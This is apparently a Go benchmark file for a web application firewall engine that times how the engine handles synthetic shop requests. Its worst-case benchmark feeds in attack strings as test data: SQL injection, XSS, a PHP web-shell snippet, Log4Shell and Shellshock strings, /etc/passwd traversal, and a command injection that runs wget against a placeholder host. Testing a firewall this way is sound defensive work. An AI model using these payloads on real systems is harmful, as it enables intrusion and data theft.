package engine

import (
	"fmt"
	"math/rand"
	"strings"
	"syscall"
	"testing"

	"github.com/merlon-dev/merlon/waf/internal/message"
)

var words = strings.Fields("lorem ipsum dolor sit amet consectetur adipiscing elit do eiusmod tempor incididunt ut labore et dolore magna aliqua enim minim veniam quis nostrud exercitation ullamco laboris nisi aliquip ex ea commodo consequat")

func randomValue(r *rand.Rand) string {
	switch r.Intn(5) {
	case 0:
		return fmt.Sprintf("%08x%08x", r.Uint32(), r.Uint32())
	case 1:
		return fmt.Sprintf("%s.%s@example.com", words[r.Intn(len(words))], words[r.Intn(len(words))])
	case 2:
		return fmt.Sprint(r.Intn(100000))
	}
	n := 1 + r.Intn(6)
	var out []string
	for range n {
		out = append(out, words[r.Intn(len(words))])
	}
	return strings.Join(out, " ")
}

func chrome(r *rand.Rand) []message.Pair {
	return []message.Pair{
		{Name: "Host", Value: "shop.example.com"},
		{Name: "Accept", Value: "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,image/apng,*/*;q=0.8,application/signed-exchange;v=b3;q=0.7"},
		{Name: "Accept-Encoding", Value: "gzip, deflate, br, zstd"},
		{Name: "Accept-Language", Value: "en-US,en;q=0.9,de;q=0.8"},
		{Name: "Cookie", Value: fmt.Sprintf("session=%08x%08x%08x; theme=dark; consent=1", r.Uint32(), r.Uint32(), r.Uint32())},
		{Name: "Referer", Value: "https://shop.example.com/products"},
		{Name: "Sec-Ch-Ua", Value: `"Chromium";v="124", "Google Chrome";v="124", "Not-A.Brand";v="99"`},
		{Name: "Sec-Ch-Ua-Mobile", Value: "?0"},
		{Name: "Sec-Ch-Ua-Platform", Value: `"Linux"`},
		{Name: "Sec-Fetch-Dest", Value: "document"},
		{Name: "Sec-Fetch-Mode", Value: "navigate"},
		{Name: "Sec-Fetch-Site", Value: "same-origin"},
		{Name: "Upgrade-Insecure-Requests", Value: "1"},
		{Name: "User-Agent", Value: "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36"},
	}
}

func cpu() int64 {
	var u syscall.Rusage
	_ = syscall.Getrusage(syscall.RUSAGE_SELF, &u)
	return u.Utime.Nano() + u.Stime.Nano()
}

func get(r *rand.Rand) *message.Request {
	q := ""
	for i := range 1 + r.Intn(4) {
		if i > 0 {
			q += "&"
		}
		q += words[r.Intn(len(words))] + "=" + strings.ReplaceAll(randomValue(r), " ", "+")
	}
	return &message.Request{Client: "192.0.2.1", Method: "GET", URI: "/products/" + fmt.Sprint(r.Intn(1000)) + "?" + q, Proto: "HTTP/1.1", Host: "shop.example.com", Header: chrome(r)}
}

func json(r *rand.Rand) *message.Request {
	m := &message.Request{Client: "192.0.2.1", Method: "POST", URI: "/api/orders", Proto: "HTTP/1.1", Host: "shop.example.com", Header: append(chrome(r), message.Pair{Name: "Content-Type", Value: "application/json"}, message.Pair{Name: "Content-Length", Value: "1000"})}
	m.Body.Kind = message.JSON
	for i := range 54 {
		m.Body.Args = append(m.Body.Args, message.Pair{Name: fmt.Sprintf("json.items.%d.%s", i/4, words[i%4]), Value: randomValue(r)})
	}
	return m
}

func form(r *rand.Rand) *message.Request {
	m := &message.Request{Client: "192.0.2.1", Method: "POST", URI: "/checkout", Proto: "HTTP/1.1", Host: "shop.example.com", Header: append(chrome(r), message.Pair{Name: "Content-Type", Value: "application/x-www-form-urlencoded"}, message.Pair{Name: "Content-Length", Value: "500"})}
	m.Body.Kind = message.Form
	for i := range 20 {
		v := randomValue(r)
		m.Body.Args = append(m.Body.Args, message.Pair{Name: words[i], Value: v})
		m.Body.Text += words[i] + "=" + strings.ReplaceAll(v, " ", "+") + "&"
	}
	return m
}

// Requests of which every one differs, and one that is repeated.
func BenchmarkEngine(b *testing.B) {
	e := native(b, sources(1))
	for _, k := range []struct {
		name string
		make func(*rand.Rand) *message.Request
	}{{"get", get}, {"json", json}, {"form", form}, {"sqli", func(r *rand.Rand) *message.Request {
		m := get(r)
		m.URI += "&q=1'+or+'1'='1'+--+" + fmt.Sprint(r.Intn(1000))
		return m
	}}} {
		r := rand.New(rand.NewSource(1))
		var list []*message.Request
		for range 4000 {
			list = append(list, k.make(r))
		}
		b.Run(k.name, func(b *testing.B) {
			b.ReportAllocs()
			dirty := 0
			start := cpu()
			for i := 0; b.Loop(); i++ {
				x, _, err := e.Request(list[i%len(list)])
				if err != nil {
					b.Fatal(err)
				}
				if x.(*transaction).dirty {
					dirty++
				}
				x.Close()
			}
			b.ReportMetric(float64(cpu()-start)/float64(b.N), "cpu-ns/op")
			b.ReportMetric(float64(dirty)/float64(b.N), "dirty/op")
		})
		b.Run(k.name+"-repeat", func(b *testing.B) {
			b.ReportAllocs()
			start := cpu()
			for b.Loop() {
				x, _, _ := e.Request(list[0])
				x.Close()
			}
			b.ReportMetric(float64(cpu()-start)/float64(b.N), "cpu-ns/op")
		})
	}
}

// Requests made to be expensive: many attacks at once, and long values of what
// makes rules look twice.
func BenchmarkWorst(b *testing.B) {
	e := native(b, sources(1))
	attacks := []string{"1' or '1'='1' -- ", "<script>alert(1)</script>", "; cat /etc/passwd", "../../../../etc/passwd", "<?php system($_GET['x']); ?>", "${jndi:ldap://x/y}", "' union select password from users--", "javascript:alert(1)", "| ls -la /tmp; wget http://x.com/a", "{{7*7}}", "O:8:\"stdClass\":1:{s:1:\"a\";}", "() { :; }; /bin/bash -c id", "<svg onload=alert(1)>", "%24%7Bx%7D"}
	r := rand.New(rand.NewSource(1))
	for _, n := range []int{10, 100, 1000} {
		m := json(r)
		m.Body.Args = nil
		for i := range n {
			m.Body.Args = append(m.Body.Args, message.Pair{Name: fmt.Sprintf("json.%d", i), Value: attacks[i%len(attacks)] + fmt.Sprint(i)})
		}
		b.Run(fmt.Sprint("attacks-", n), func(b *testing.B) {
			start := cpu()
			for b.Loop() {
				x, _, _ := e.Request(m)
				x.Close()
			}
			b.ReportMetric(float64(cpu()-start)/float64(b.N), "cpu-ns/op")
		})
	}
	for name, s := range map[string]string{"quotes": "'\"`;|&$(){}<>=-#/*\\", "words": "select union from where cat ls wget curl bash exec system ", "percent": "%25%27%2e%2e%2f", "spaces": "   \t  ", "angle": "<a <b <c =x", "base64": "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "slash": "/../..//./a", "amp": "&#x27;&lt;&amp;"} {
		m := json(r)
		m.Body.Args = []message.Pair{{Name: "json.a", Value: strings.Repeat(s, 100000/len(s))}}
		b.Run("100k-"+name, func(b *testing.B) {
			start := cpu()
			for b.Loop() {
				x, _, _ := e.Request(m)
				x.Close()
			}
			b.ReportMetric(float64(cpu()-start)/float64(b.N), "cpu-ns/op")
		})
	}
}
